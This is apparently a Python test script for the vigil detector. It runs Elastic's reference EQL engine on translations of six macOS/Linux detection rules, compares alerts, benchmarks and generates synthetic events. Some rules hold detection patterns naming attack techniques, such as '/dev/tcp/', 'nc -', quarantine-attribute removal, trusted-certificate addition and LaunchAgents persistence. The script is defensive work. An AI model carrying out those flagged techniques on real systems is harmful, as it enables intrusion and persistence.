#!/usr/bin/env python3
"""Elastic's reference EQL engine (python `eql`, 1.0.1) running exact
translations of vigil's six shipped rules: the "same alerts" half of the
correlator benchmark.

    scripts/eql_reference.py EVENTS.ndjson...            alerts, one JSON line each:
                                                         {"rule_id": ..., "event_ids": [...]}
    scripts/eql_reference.py --per-file A.ndjson B.ndjson  each file its own stream;
                                                         lines also carry "input"
    scripts/eql_reference.py --bench EVENTS.ndjson       "<events/s> <alerts>": best of 3,
                                                         timing engine.stream_events only
    scripts/eql_reference.py --compare [--vigil BIN] EVENTS.ndjson...
                                                         runs `vigil replay` on the same
                                                         events; per-rule counts and
                                                         "same alerts: yes" (exit 0) or
                                                         the differences (exit 1)
    scripts/eql_reference.py --check-rules [--vigil BIN] [--rules DIR]
                                                         the translations still match the
                                                         rules vigil loads (exit 1 if not)
    scripts/eql_reference.py --generate N [--seed S]     N random events that hit every
                                                         rule and its near misses

Events are identified by `event.id`; an event without one is "L<line>" (its
1-based line in its file; "<file index>:L<line>" when several files form one
stream). --compare first writes a copy of the input in which every event has
such an id, so that vigil's alerts (which carry the matched documents) name
the same events.

How the events reach the engine (the Elasticsearch behaviour that vigil's
`replay` follows, and how it is reproduced here):
  * stream order: all files concatenated, then a stable sort on @timestamp,
    as Elasticsearch returns events to EQL (ties keep their file order);
  * time: @timestamp (RFC 3339, or epoch milliseconds as a number) in
    nanoseconds since the epoch, with the engine's `time_unit` set to 10**9
    ticks per second, so `maxspan=15s` is 15 * 10**9 (eql converts a maxspan
    to whole seconds first: every shipped maxspan is whole seconds);
    an event without @timestamp gets 0, as in vigil;
  * category: eql dispatches on one event type; it is the event's single
    `event.category`, or for a list of several, the one vigil keeps (the
    first that is not `host`). Elasticsearch matches a multi-category event
    under each of its categories; none of the shipped fixtures or synthetic
    events has more than one (a count is printed if any does);
  * what indexing into ECS mappings does (see normalize()): numeric ids
    become text, one `event.type` / `event.category` string a one-element
    list, an IPv4-mapped IPv6 address (::ffff:a.b.c.d) the IPv4 address;
  * documents that an ECS index would reject and vigil skips as bad lines
    are dropped: invalid JSON, a non-object `event`, an unparsable
    `source.ip` / `destination.ip`.

How the engine is configured (Elasticsearch EQL semantics, which vigil's
dialect follows; python eql 1.0.1 predates some of them):
  * `eql.utils.CASE_INSENSITIVE = False`: eql's own switch. By default eql
    folds case in `==`, `in`, `arrayContains` and join keys (the original
    Endgame EQL); Elasticsearch, and vigil, compare all of these exactly.
  * `:` is parsed by eql itself (eql.parser.elasticsearch_syntax turns it
    into `wildcard()`), and `wildcard()` is evaluated by the engine
    subclass below as Elasticsearch and vigil define `:`: case-insensitive,
    `*` any run, `?` one character, the whole value. (eql 1.0.1's own
    wildcard follows the global case switch, takes `?` literally and lets
    `$` match before a trailing newline.)
Everything else - boolean three-valued logic, `==`, `in`, `cidrMatch`,
`arrayContains`, the sequence state machine, `by` keys and maxspan - is
python eql's own code.

Where python eql 1.0.1 differs from Elasticsearch EQL (each checked with
eql.PythonEngine on eql.parser.elasticsearch_syntax; each compensated for
above or in the translations below; E = eql.Event(category, time, data)):
  1. case: `process where event.action == "exec"` matches
     {"event": {"action": "EXEC"}} (stock CASE_INSENSITIVE); so do `in`,
     and join keys "ABC" and "abc" join. Elasticsearch: no match, no join.
  2. null join keys: `sequence [process where true] by process.entity_id
     [network where true] by process.entity_id` joins two events that both
     lack process.entity_id. Elasticsearch (7.16+): no sequence.
  3. `network where not cidrMatch(destination.ip, "10.0.0.0/8")` matches an
     event without destination.ip (cidrMatch returns false, not null).
     Elasticsearch agrees: it runs the filter as Query DSL, `must_not` of
     a `terms` query, which a document without the field matches
     (x-pack/plugin/eql queryfolder_tests.txt, case functionEqualsFalse;
     see the README's Rules section). vigil does the same. Where python
     eql's `not` meets a null (`not process.name == "x"` without
     process.name) it stays null, and Elasticsearch's `must_not` matches:
     the translations below meet no such case.
  4. `network where event.type == "start"` does not match
     {"event": {"type": ["start", "connection"]}} (== on a list is null).
     Elasticsearch: a multi-valued field matches when any value does.
  5. maxspan is cut to whole seconds: `with maxspan=1500ms` rejects a
     1.2 s sequence, `maxspan=500ms` only allows equal timestamps.
  6. `cidrMatch(ip, "::1")` is a parse error (a prefix length is required).
  7. `process.name : "tcl?h"` does not match "tclsh" (`?` is literal) and
     `process.name : "bash"` matches "bash\n"; case follows the global switch.
  8. cidrMatch("::ffff:10.1.2.3", "10.0.0.0/8") is false; an Elasticsearch
     `ip` field stores that address as 10.1.2.3.
The sequence state machine itself agrees with Elasticsearch's
(SequenceMatcher: per key, a stage's event continues the most recent
partial sequence of the previous stage and discards older ones; maxspan
inclusive, from the first event): on in-order events, one partial per key
and stage, a newer one replacing it, as in eql and vigil.

Differences between vigil and Elasticsearch this comparison shows (so the
random stream of --generate avoids them):
  * vigil parses `event.type` and `event.category` values ignoring case
    ("START" is start, "Process" is process) and drops unknown type names;
    in Elasticsearch they are case-sensitive keywords.
  * an event with several categories is routed by vigil under one (the
    first that is not `host`); Elasticsearch matches it under each.
  * vigil keeps at most 10,000 partial sequences per rule (the oldest is
    evicted): 10,001 Downloads writes within 5 minutes, then the first
    file run, raise an0994-download-executed in eql and not in vigil.
"""

import argparse
import calendar
import collections
import ipaddress
import json
import os
import re
import subprocess
import sys
import tempfile
import time

# --------------------------------------------------------------------------
# The rules. `source` is the query exactly as vigil renders it (`vigil rules
# list --json`, lists from macos.lib.rhai expanded); --check-rules fails when
# a shipped rule no longer matches it. `eql` is the translation.
#
# Constructs, the same in every rule:
#   field : ("a", "b*")      kept as written: eql (elasticsearch_syntax) makes
#                            it wildcard(field, "a", "b*"), evaluated
#                            case-insensitively (see WILDCARD below).
#   field == "x"             kept: exact, case-sensitive (CASE_INSENSITIVE off).
#   field in ("x", "y")      kept: exact, case-sensitive.
#   event.type == "start"    arrayContains(event.type, "start"): event.type is a
#                            list in ECS; eql's `==` on a list is null, while
#                            Elasticsearch (and vigil) match a multi-valued
#                            field when any value matches.
#   event.type in (a, b)     arrayContains(event.type, a, b), same reason.
#   cidrmatch(ip, ...)       cidrMatch(ip, ...) (eql's spelling): eql's
#                            cidrMatch returns false for a missing address, so
#                            `not cidrMatch(...)` holds, as `must_not` does in
#                            Elasticsearch and `not` in vigil. A bare address
#                            "::1" is written "::1/128" (eql requires a prefix
#                            length).
#   [...] by k (and the sequence's `by`)
#                            kept; every stage also gets `k != null` for each
#                            of its join keys: Elasticsearch (7.16+) and vigil
#                            never join on a null key, eql joins null to null.
#   with maxspan=N           kept (whole seconds; see time above).
# --------------------------------------------------------------------------

RULES = [
    {
        "id": "macos-installer-child-network",
        # Two stages by (host.id, process.entity_id) then (host.id,
        # process.parent.entity_id); `host.os.type in`, `event.action ==`
        # stay exact; event.type through arrayContains; both name lists kept.
        "source": """
sequence by host.id with maxspan=15s
[process where host.os.type in ("macos", "linux") and event.type == "start" and event.action == "exec" and process.parent.name : ("installer", "package_script_service") and process.name : ("bash", "sh", "zsh", "python", "osascript", "tclsh*")] by process.entity_id
[network where host.os.type in ("macos", "linux") and event.type == "start" and process.name : ("curl", "osascript", "wget", "python", "java", "ruby", "node")] by process.parent.entity_id
""",
        "eql": """
sequence by host.id with maxspan=15s
  [process where host.os.type in ("macos", "linux") and arrayContains(event.type, "start") and
     event.action == "exec" and
     process.parent.name : ("installer", "package_script_service") and
     process.name : ("bash", "sh", "zsh", "python", "osascript", "tclsh*") and
     host.id != null and process.entity_id != null] by process.entity_id
  [network where host.os.type in ("macos", "linux") and arrayContains(event.type, "start") and
     process.name : ("curl", "osascript", "wget", "python", "java", "ruby", "node") and
     host.id != null and process.parent.entity_id != null] by process.parent.entity_id
""",
    },
    {
        "id": "macos-installer-network-legacy",
        # Joined by process.entity_id only (no per-stage keys). The 26
        # private/reserved ranges kept in order; "::1" written "::1/128".
        # An event without an address matches `not cidrmatch` (Elasticsearch's
        # `must_not`; eql's cidrMatch is false there, so `not` holds).
        "source": """
sequence by process.entity_id with maxspan=1m [process where event.type == "start" and host.os.family == "macos" and process.parent.executable in ("/usr/sbin/installer", "/System/Library/CoreServices/Installer.app/Contents/MacOS/Installer") ] [network where not cidrmatch(destination.ip, "10.0.0.0/8", "127.0.0.0/8", "169.254.0.0/16", "172.16.0.0/12", "192.0.0.0/24", "192.0.0.0/29", "192.0.0.8/32", "192.0.0.9/32", "192.0.0.10/32", "192.0.0.170/32", "192.0.0.171/32", "192.0.2.0/24", "192.31.196.0/24", "192.52.193.0/24", "192.168.0.0/16", "192.88.99.0/24", "224.0.0.0/4", "100.64.0.0/10", "192.175.48.0/24", "198.18.0.0/15", "198.51.100.0/24", "203.0.113.0/24", "240.0.0.0/4", "::1", "FE80::/10", "FF00::/8")]
""",
        "eql": """
sequence by process.entity_id with maxspan=1m
  [process where arrayContains(event.type, "start") and host.os.family == "macos" and
     process.parent.executable in ("/usr/sbin/installer", "/System/Library/CoreServices/Installer.app/Contents/MacOS/Installer") and
     process.entity_id != null]
  [network where
     not cidrMatch(destination.ip, "10.0.0.0/8", "127.0.0.0/8", "169.254.0.0/16", "172.16.0.0/12",
       "192.0.0.0/24", "192.0.0.0/29", "192.0.0.8/32", "192.0.0.9/32", "192.0.0.10/32",
       "192.0.0.170/32", "192.0.0.171/32", "192.0.2.0/24", "192.31.196.0/24", "192.52.193.0/24",
       "192.168.0.0/16", "192.88.99.0/24", "224.0.0.0/4", "100.64.0.0/10", "192.175.48.0/24",
       "198.18.0.0/15", "198.51.100.0/24", "203.0.113.0/24", "240.0.0.0/4", "::1/128",
       "FE80::/10", "FF00::/8") and
     process.entity_id != null]
""",
    },
    {
        "id": "an0938-installer-postinstall-unusual-child",
        # macos::installer_paths (exact `in`) or macos::installers (`:`);
        # the rule's unusual_places and abnormal_cli lists expanded in full.
        "source": """
sequence by host.id with maxspan=5m
  [process where event.type == "start" and
     (process.parent.executable in ("/usr/sbin/installer", "/System/Library/CoreServices/Installer.app/Contents/MacOS/Installer") or process.parent.name : ("installer", "package_script_service")) and
     process.name : ("bash", "sh", "zsh", "dash", "ksh", "python*", "perl*", "ruby", "osascript")] by process.entity_id
  [process where event.type == "start" and
     (process.executable : ("/tmp/*", "/private/tmp/*", "/var/tmp/*", "/private/var/tmp/*", "/private/var/folders/*", "/Users/Shared/*", "/Users/*/Library/*", "/Users/*/Downloads/*", "*/.*") or process.command_line : ("*curl *", "*wget *", "*base64*", "*chmod +x*", "*chmod 7*", "*xattr -d*com.apple.quarantine*", "*launchctl load*", "*launchctl bootstrap*", "*osascript -e*", "*/dev/tcp/*", "*nc -*", "*python* -c*", "*LaunchDaemons*", "*LaunchAgents*", "*dscl*-create*", "*security *add-trusted-cert*"))] by process.parent.entity_id
""",
        "eql": """
sequence by host.id with maxspan=5m
  [process where arrayContains(event.type, "start") and
     (process.parent.executable in ("/usr/sbin/installer", "/System/Library/CoreServices/Installer.app/Contents/MacOS/Installer") or
      process.parent.name : ("installer", "package_script_service")) and
     process.name : ("bash", "sh", "zsh", "dash", "ksh", "python*", "perl*", "ruby", "osascript") and
     host.id != null and process.entity_id != null] by process.entity_id
  [process where arrayContains(event.type, "start") and
     (process.executable : ("/tmp/*", "/private/tmp/*", "/var/tmp/*", "/private/var/tmp/*",
        "/private/var/folders/*", "/Users/Shared/*", "/Users/*/Library/*", "/Users/*/Downloads/*", "*/.*") or
      process.command_line : ("*curl *", "*wget *", "*base64*", "*chmod +x*", "*chmod 7*",
        "*xattr -d*com.apple.quarantine*", "*launchctl load*", "*launchctl bootstrap*", "*osascript -e*",
        "*/dev/tcp/*", "*nc -*", "*python* -c*", "*LaunchDaemons*", "*LaunchAgents*", "*dscl*-create*",
        "*security *add-trusted-cert*")) and
     host.id != null and process.parent.entity_id != null] by process.parent.entity_id
""",
    },
    {
        "id": "an0994-browser-spawns-shell",
        # A single-event query: macos::browsers and macos::shells expanded.
        "source": """
process where event.type == "start" and
              process.parent.name : ("Safari", "Google Chrome", "Google Chrome Helper*", "firefox", "Microsoft Edge", "Microsoft Edge Helper*", "Brave Browser", "Brave Browser Helper*", "Arc", "Opera", "com.apple.WebKit.*") and
              process.name : ("bash", "sh", "zsh", "dash", "ksh", "csh", "tcsh", "fish", "python", "python3*", "perl*", "ruby", "osascript", "tclsh*", "node")
""",
        "eql": """
process where arrayContains(event.type, "start") and
  process.parent.name : ("Safari", "Google Chrome", "Google Chrome Helper*", "firefox", "Microsoft Edge",
    "Microsoft Edge Helper*", "Brave Browser", "Brave Browser Helper*", "Arc", "Opera", "com.apple.WebKit.*") and
  process.name : ("bash", "sh", "zsh", "dash", "ksh", "csh", "tcsh", "fish", "python", "python3*", "perl*",
    "ruby", "osascript", "tclsh*", "node")
""",
    },
    {
        "id": "an0994-download-executed",
        # Joined by (host.id, file.path) then (host.id, process.executable):
        # the write's path is the exec's executable, compared exactly.
        "source": """
sequence by host.id with maxspan=5m
  [file where event.type in ("creation", "change") and file.path : ("/Users/*/Downloads/*", "/Users/*/Library/Caches/*", "/home/*/Downloads/*", "/root/Downloads/*")] by file.path
  [process where event.type == "start" and process.executable : ("/Users/*/Downloads/*", "/Users/*/Library/Caches/*", "/home/*/Downloads/*", "/root/Downloads/*")] by process.executable
""",
        "eql": """
sequence by host.id with maxspan=5m
  [file where arrayContains(event.type, "creation", "change") and
     file.path : ("/Users/*/Downloads/*", "/Users/*/Library/Caches/*", "/home/*/Downloads/*", "/root/Downloads/*") and
     host.id != null and file.path != null] by file.path
  [process where arrayContains(event.type, "start") and
     process.executable : ("/Users/*/Downloads/*", "/Users/*/Library/Caches/*", "/home/*/Downloads/*", "/root/Downloads/*") and
     host.id != null and process.executable != null] by process.executable
""",
    },
    {
        "id": "an1316-content-app-write-spawn-egress",
        # Three stages; macos::content_apps expanded; the loopback test is
        # `not cidrMatch(...)` with "::1/128".
        "source": """
sequence by host.id with maxspan=2m
  [file where event.type in ("creation", "change") and
     process.name : ("Safari", "Google Chrome", "Google Chrome Helper*", "firefox", "Microsoft Edge", "Brave Browser", "Arc", "Microsoft Word", "Microsoft Excel", "Microsoft PowerPoint", "Microsoft Outlook", "Preview", "Archive Utility", "The Unarchiver", "Keka", "bsdtar", "unzip", "ditto") and
     file.path : ("/Users/*/Downloads/*", "/private/var/folders/*", "/var/folders/*", "/Users/*/Library/*", "/tmp/*", "/private/tmp/*")] by process.entity_id
  [process where event.type == "start" and
     process.name : ("osascript", "bash", "zsh", "sh", "curl", "python*")] by process.parent.entity_id
  [network where event.type == "start" and
     not cidrmatch(destination.ip, "127.0.0.0/8", "::1")] by process.parent.entity_id
""",
        "eql": """
sequence by host.id with maxspan=2m
  [file where arrayContains(event.type, "creation", "change") and
     process.name : ("Safari", "Google Chrome", "Google Chrome Helper*", "firefox", "Microsoft Edge",
       "Brave Browser", "Arc", "Microsoft Word", "Microsoft Excel", "Microsoft PowerPoint",
       "Microsoft Outlook", "Preview", "Archive Utility", "The Unarchiver", "Keka", "bsdtar", "unzip", "ditto") and
     file.path : ("/Users/*/Downloads/*", "/private/var/folders/*", "/var/folders/*", "/Users/*/Library/*",
       "/tmp/*", "/private/tmp/*") and
     host.id != null and process.entity_id != null] by process.entity_id
  [process where arrayContains(event.type, "start") and
     process.name : ("osascript", "bash", "zsh", "sh", "curl", "python*") and
     host.id != null and process.parent.entity_id != null] by process.parent.entity_id
  [network where arrayContains(event.type, "start") and
     not cidrMatch(destination.ip, "127.0.0.0/8", "::1/128") and
     host.id != null and process.parent.entity_id != null] by process.parent.entity_id
""",
    },
]

# String literals a translation may add or rewrite (see the table above);
# every other literal of the source must appear in the translation, in order.
LITERAL_REWRITES = {"::1": "::1/128"}

TICKS_PER_SECOND = 10**9  # event times are in nanoseconds

SKIP_MESSAGE = "python eql not installed (scripts/setup.sh installs it)"


def import_eql():
    try:
        import eql  # noqa: F401
        import eql.utils
    except ImportError:
        sys.stderr.write("eql_reference: %s\n" % SKIP_MESSAGE)
        sys.exit(3)
    if getattr(eql, "__version__", "") != "1.0.1":
        sys.stderr.write("eql_reference: warning: written for eql 1.0.1, found %s\n"
                         % getattr(eql, "__version__", "?"))
    # Elasticsearch (and vigil) compare strings and join keys exactly.
    eql.utils.CASE_INSENSITIVE = False
    return eql


def wildcard_regex(patterns):
    """Elasticsearch's `:`: `*` any run, `?` one character, whole value,
    case-insensitive."""
    alternatives = []
    for p in patterns:
        out = []
        for c in p:
            out.append(".*" if c == "*" else "." if c == "?" else re.escape(c))
        alternatives.append("".join(out))
    return re.compile("(?:%s)" % "|".join(alternatives), re.IGNORECASE | re.DOTALL | re.UNICODE)


def make_engine_class(eql):
    from eql.ast import String
    from eql.utils import is_string

    class ReferenceEngine(eql.PythonEngine):
        """eql's PythonEngine; only `wildcard()` (what `:` parses to) is
        evaluated as Elasticsearch's case-insensitive `:`."""

        def _function_wildcard(self, arguments):
            get_value = self.convert(arguments[0])
            literals = arguments[1:]
            if not all(isinstance(a, String) for a in literals):
                raise ValueError("wildcard patterns must be string literals")
            regex = wildcard_regex([a.value for a in literals])
            fullmatch = regex.fullmatch

            def callback(scope):
                value = get_value(scope)
                if is_string(value):
                    return fullmatch(value) is not None
                return None

            return callback

    return ReferenceEngine


def parse_rules(eql):
    parsed = []
    with eql.parser.elasticsearch_syntax:
        for r in RULES:
            q = eql.parse_query(r["eql"], implied_any=True)
            parsed.append((r["id"], q))
    return parsed


def build_engine(eql, parsed):
    engine = make_engine_class(eql)({"time_unit": TICKS_PER_SECOND})
    for rule_id, q in parsed:
        engine.add_analytic(eql.ast.EqlAnalytic(query=q, metadata={"id": rule_id}))
    return engine


# ---------------------------------------------------------------- loading

RFC3339 = re.compile(
    r"^(\d{4})-(\d\d)-(\d\d)[Tt ](\d\d):(\d\d):(\d\d)(?:\.(\d+))?(Z|z|[+-]\d\d:\d\d)$")


def timestamp_ns(value):
    if value is None:
        return 0
    if isinstance(value, bool):
        raise ValueError("bad @timestamp")
    if isinstance(value, int):
        return value * 1_000_000  # epoch milliseconds, as Elasticsearch accepts
    m = RFC3339.match(value) if isinstance(value, str) else None
    if not m:
        raise ValueError("bad @timestamp %r" % (value,))
    y, mo, d, h, mi, s, frac, tz = m.groups()
    secs = calendar.timegm((int(y), int(mo), int(d), int(h), int(mi), int(s), 0, 0, 0))
    if tz not in ("Z", "z"):
        sign = 1 if tz[0] == "+" else -1
        secs -= sign * (int(tz[1:3]) * 3600 + int(tz[4:6]) * 60)
    ns = int((frac or "0")[:9].ljust(9, "0"))
    return secs * 1_000_000_000 + ns


def valid_ip(value):
    if value is None:
        return True
    if not isinstance(value, str) or "%" in value:
        return False
    try:
        ipaddress.ip_address(value)
        return True
    except ValueError:
        return False


def as_list(v):
    return [v] if isinstance(v, str) else v


# keyword fields vigil reads as ids: a JSON number is their text, as an
# Elasticsearch keyword field indexes it.
ID_FIELDS = (("event", "id"), ("host", "id"), ("user", "id"), ("process", "entity_id"),
             ("process", "parent", "entity_id"))


def normalize(doc):
    """What indexing into ECS mappings does to a document, where eql would
    otherwise see something else: numeric ids become keyword text, one
    `event.type` / `event.category` string a one-element list, and an
    IPv4-mapped IPv6 address (::ffff:a.b.c.d) the IPv4 address an `ip`
    field stores (so cidrMatch sees it in IPv4 ranges, as Elasticsearch and
    vigil do)."""
    for path in ID_FIELDS:
        d = doc
        for p in path[:-1]:
            d = d.get(p) if isinstance(d, dict) else None
        if isinstance(d, dict):
            v = d.get(path[-1])
            if isinstance(v, (int, float)) and not isinstance(v, bool):
                d[path[-1]] = str(v)
    ev = doc["event"]
    for key in ("type", "category"):
        if key in ev:
            ev[key] = as_list(ev[key])
    for side in ("source", "destination"):
        ep = doc.get(side)
        if isinstance(ep, dict) and isinstance(ep.get("ip"), str):
            ip = ipaddress.ip_address(ep["ip"])
            if isinstance(ip, ipaddress.IPv6Address) and ip.ipv4_mapped is not None:
                ep["ip"] = str(ip.ipv4_mapped)


# vigil's categories (dsl/src/event.rs `Category`); other names are skipped.
KNOWN_CATEGORIES = {"process", "file", "network", "authentication", "session", "iam",
                    "configuration", "library", "malware", "package", "host", "other"}


def category_of(cats):
    """The category eql dispatches the event on: the one vigil keeps
    (`Category::from_ecs_list`): names are read case-insensitively,
    `intrusion_detection` is `malware`, unknown names are skipped, and the
    first known name wins unless it is the generic `host`."""
    if not isinstance(cats, list):
        return "other"
    best = "other"
    for c in cats:
        if not isinstance(c, str):
            continue
        c = c.lower()
        if c == "intrusion_detection":
            c = "malware"
        if c not in KNOWN_CATEGORIES:
            continue
        if best == "other" or (best == "host" and c != "host"):
            best = c
    return best


class Stats:
    def __init__(self):
        self.rejected = 0
        self.multi_category = 0
        self.missing_ids = 0


def numbered_lines(paths):
    """(file index, line number, line) for every non-blank line of `paths`:
    the numbers events without an id are named by (see load_events)."""
    for k, path in enumerate(paths):
        with open(path, encoding="utf-8") as f:
            for n, line in enumerate(f, 1):
                if line.strip():
                    yield k, n, line


def load_events(eql, paths, stats, tag_prefix):
    """All events of `paths` as one stream: eql Events, stably sorted by time.
    Each event's identifier is in data['event']['id'] (or assigned)."""
    events = []
    for k, n, line in numbered_lines(paths):
        try:
            doc = json.loads(line)
            if not isinstance(doc, dict) or not isinstance(doc.setdefault("event", {}), dict):
                raise ValueError("not an ECS document")
            ev = doc["event"]
            for side in ("source", "destination"):
                ep = doc.get(side)
                if isinstance(ep, dict) and not valid_ip(ep.get("ip")):
                    raise ValueError("bad IP")
            ts = timestamp_ns(doc.get("@timestamp"))
        except ValueError:
            stats.rejected += 1
            continue
        if ev.get("id") is None:
            stats.missing_ids += 1
            ev["id"] = tag_prefix(k) + "L%d" % n
        normalize(doc)
        cats = ev.get("category")
        if isinstance(cats, list) and len(cats) > 1:
            stats.multi_category += 1
        events.append(eql.Event(category_of(cats), ts, doc))
    events.sort(key=lambda e: e.time)  # stable: ties keep file order
    return events


def prefix_for(paths):
    if len(paths) == 1:
        return lambda k: ""
    return lambda k: "%d:" % k


def run_engine(eql, parsed, events):
    engine = build_engine(eql, parsed)
    alerts = []
    engine.add_output_hook(
        lambda out: alerts.append({"rule_id": out.analytic_id,
                                   "event_ids": [e.data["event"]["id"] for e in out.events]}))
    t0 = time.perf_counter()
    engine.stream_events(events)
    return alerts, time.perf_counter() - t0


def report_stats(stats, label=""):
    if stats.rejected:
        sys.stderr.write("eql_reference: %sdropped %d documents an ECS index rejects "
                         "(bad JSON, bad IP, bad @timestamp)\n" % (label, stats.rejected))
    if stats.multi_category:
        sys.stderr.write("eql_reference: %swarning: %d events have several categories; "
                         "eql sees only one\n" % (label, stats.multi_category))


def reference_alerts(eql, parsed, paths):
    stats = Stats()
    events = load_events(eql, paths, stats, prefix_for(paths))
    report_stats(stats)
    alerts, _ = run_engine(eql, parsed, events)
    return alerts, stats, len(events)


# ------------------------------------------------------------------ vigil

def default_vigil():
    root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    for cand in (os.environ.get("VIGIL_BIN"),
                 os.path.join(root, "target", "release", "vigil"),
                 os.path.join(root, "target", "debug", "vigil")):
        if cand and os.path.exists(cand):
            return cand
    return "vigil"


def tagged_copy(paths, directory):
    """The events of `paths` as one file in which every event has an
    event.id (the same one load_events assigns)."""
    prefix = prefix_for(paths)
    out_path = os.path.join(directory, "tagged.ndjson")
    with open(out_path, "w", encoding="utf-8") as out:
        for k, n, line in numbered_lines(paths):
            try:
                doc = json.loads(line)
                ev = doc.get("event") if isinstance(doc, dict) else None
                if isinstance(doc, dict) and ev is None:
                    ev = doc["event"] = {}
                if isinstance(ev, dict) and ev.get("id") is None:
                    ev["id"] = prefix(k) + "L%d" % n
                    line = json.dumps(doc, ensure_ascii=False) + "\n"
            except ValueError:
                pass
            out.write(line if line.endswith("\n") else line + "\n")
    return out_path


def vigil_alerts(vigil, path):
    p = subprocess.run([vigil, "replay", path], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                       env=dict(os.environ, VIGIL_LOG="warn"))
    if p.returncode != 0:
        raise RuntimeError("vigil replay failed: %s" % p.stderr.decode(errors="replace"))
    alerts = []
    for line in p.stdout.decode().splitlines():
        if line.strip():
            a = json.loads(line)
            alerts.append({"rule_id": a["rule"]["id"],
                           "event_ids": [str(e.get("event", {}).get("id")) for e in a["events"]]})
    bad = 0
    m = re.search(r"\((\d+) bad lines\)", p.stderr.decode(errors="replace"))
    if m:
        bad = int(m.group(1))
    return alerts, bad


# ---------------------------------------------------------------- compare

def key(a):
    return (a["rule_id"], tuple(a["event_ids"]))


def count_table(vc, ec, differing, out):
    rules = [r["id"] for r in RULES]
    rules += sorted((set(vc) | set(ec)) - set(rules))
    out.write("  %-44s %8s %8s\n" % ("rule", "vigil", "eql"))
    for r in rules:
        out.write("  %-44s %8d %8d%s\n" % (r, vc[r], ec[r], "   <- differ" if r in differing else ""))


def compare(label, vigil_list, eql_list, out, totals, brief=False, limit=10):
    """Prints per-rule counts (with `brief`, only when they differ) and adds
    them to `totals`; returns whether the alerts are the same."""
    v = collections.Counter(key(a) for a in vigil_list)
    e = collections.Counter(key(a) for a in eql_list)
    vc = collections.Counter(a["rule_id"] for a in vigil_list)
    ec = collections.Counter(a["rule_id"] for a in eql_list)
    only_v = v - e
    only_e = e - v
    differing = {k[0] for k in list(only_v) + list(only_e)}
    totals["vigil"].update(vc)
    totals["eql"].update(ec)
    totals["differing"] |= differing
    totals["streams"] += 1
    if not differing:
        if brief:
            out.write("%s: same alerts (%d)\n" % (label, len(vigil_list)))
        else:
            out.write("%s\n" % label)
            count_table(vc, ec, differing, out)
            out.write("  same alerts: yes (%d)\n" % len(vigil_list))
        return True
    totals["streams_differing"] += 1
    out.write("%s\n" % label)
    count_table(vc, ec, differing, out)
    out.write("  same alerts: NO (%d only in vigil, %d only in eql)\n"
              % (sum(only_v.values()), sum(only_e.values())))
    for name, diff in (("only in vigil", only_v), ("only in eql", only_e)):
        for (rule, ids), n in sorted(diff.items())[:limit]:
            out.write("    %s: %s %s%s\n" % (name, rule, list(ids), " x%d" % n if n > 1 else ""))
        if len(diff) > limit:
            out.write("    %s: ... %d more\n" % (name, len(diff) - limit))
    return False


def check_rules(vigil, rules_dir, out):
    """Whether each translation's `source` is the query vigil loads, and
    whether every literal of the source survives in the translation."""
    cmd = [vigil, "rules", "list", "--json"] + ([rules_dir] if rules_dir else [])
    p = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    if p.returncode != 0:
        out.write("check-rules: %s failed: %s\n" % (" ".join(cmd), p.stderr.decode(errors="replace")))
        return False
    loaded = {}
    for line in p.stdout.decode().splitlines():
        if line.strip():
            r = json.loads(line)
            loaded[r["id"]] = r["query"]
    norm = lambda s: " ".join(s.split())  # noqa: E731
    lits = lambda s: re.findall(r'"((?:[^"\\]|\\.)*)"', s)  # noqa: E731
    ok = True
    for r in RULES:
        if r["id"] not in loaded:
            out.write("check-rules: %s: not loaded by vigil\n" % r["id"])
            ok = False
        elif norm(loaded[r["id"]]) != norm(r["source"]):
            out.write("check-rules: %s: the rule changed; update its translation\n  vigil:  %s\n"
                      "  stored: %s\n" % (r["id"], norm(loaded[r["id"]]), norm(r["source"])))
            ok = False
        want = [LITERAL_REWRITES.get(s, s) for s in lits(r["source"])]
        have = iter(lits(r["eql"]))
        missing = [s for s in want if not any(s == h for h in have)]
        if missing:
            out.write("check-rules: %s: translation lacks %s\n" % (r["id"], missing))
            ok = False
    for rid in sorted(set(loaded) - {r["id"] for r in RULES}):
        out.write("check-rules: %s: loaded by vigil but not translated\n" % rid)
        ok = False
    if ok:
        out.write("check-rules: all %d translations match the rules vigil loads\n" % len(RULES))
    return ok


# --------------------------------------------------------------- generate

def generate(n, seed, out):
    """About `n` random ECS events that hit every shipped rule and its near
    misses: few hosts and entity ids (so partial sequences collide, get
    replaced and expire), gaps of whole and half seconds (so gaps of exactly
    a maxspan and equal timestamps occur), names and paths from the rules'
    lists beside near misses and case variants, join keys that differ only
    in case or are numbers, missing key fields and addresses, IPv4-mapped
    IPv6 addresses, epoch-millisecond timestamps, and now and then a planted
    chain for one of the sequence rules with each of its fields left random
    one time in ten. Differential-testing input: the two engines must agree
    on it, whatever it raises."""
    import random

    rnd = random.Random(seed)
    pick = rnd.choice
    hosts = ["H1", "H2", "h1"]
    entities = ["E%d" % i for i in range(1, 7)] + ["e1", "e2", 502, "502"]
    users = ["bob", "Bob", "alice"]
    shells = ["bash", "BASH", "sh", "zsh", "Zsh", "dash", "ksh", "csh", "tcsh", "fish", "python",
              "python3", "Python3.11", "perl", "perl5.30", "ruby", "osascript", "OSAScript", "tclsh",
              "tclsh8.6", "node"]
    names = shells + ["python2", "curl", "wget", "java", "nscurl", "ls", "bashful", "installer",
                      "Safari", "Preview", "unzip", "ditto", "Keka", "Microsoft Word", "xpcproxy"]
    downloaders = ["curl", "Curl", "osascript", "wget", "python", "java", "ruby", "node", "nscurl"]
    installers = ["installer", "Installer", "package_script_service", "installerd"]
    browsers = ["Safari", "safari", "Google Chrome", "Google Chrome Helper", "Google Chrome Helper (Renderer)",
                "Microsoft Edge Helper (GPU)", "Brave Browser", "Arc", "Opera", "com.apple.WebKit.WebContent",
                "firefox", "Firefox"]
    content_apps = ["Safari", "Google Chrome Helper (GPU)", "firefox", "Microsoft Word", "Preview",
                    "Archive Utility", "The Unarchiver", "Keka", "bsdtar", "unzip", "ditto", "DITTO", "Finder"]
    parents = installers + browsers + ["Terminal", "launchd", "bash", "sh", "zsh"]
    installer_exes = ["/usr/sbin/installer", "/USR/SBIN/INSTALLER", "/usr/sbin/installerd",
                      "/System/Library/CoreServices/Installer.app/Contents/MacOS/Installer"]
    parent_exes = installer_exes + ["/Applications/Safari.app/Contents/MacOS/Safari", "/bin/zsh", "/sbin/launchd"]
    dropped = ["/Users/{u}/Downloads/App", "/Users/{u}/Downloads/setup.sh", "/users/{u}/downloads/app",
